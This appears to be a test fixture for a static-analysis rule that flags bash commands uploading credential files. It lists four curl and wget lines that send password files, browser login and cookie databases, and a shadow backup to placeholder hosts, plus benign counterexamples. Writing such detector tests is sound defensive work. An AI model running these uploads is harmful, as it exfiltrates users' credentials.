#!/bin/bash
# ruleid: bash-upload-credential-file
curl --upload /path/to/save/passwords.txt http://your-server.com/upload-passwords
# ruleid: bash-upload-credential-file
curl -s -F "file=@/tmp/chrome_login_data.db" https://collector.example/u
# ruleid: bash-upload-credential-file
curl -T "$OUT/cookies.sqlite" ftp://drop.example/
# ruleid: bash-upload-credential-file
wget --post-file=/tmp/shadow.bak http://198.51.100.7/in
# ok: bash-upload-credential-file
curl -F "file=@report.pdf" https://uploads.example.com/
# ok: bash-upload-credential-file
curl -s https://example.com/reset-password
# ok: bash-upload-credential-file
echo "curl -T passwords.txt is what stealers do"
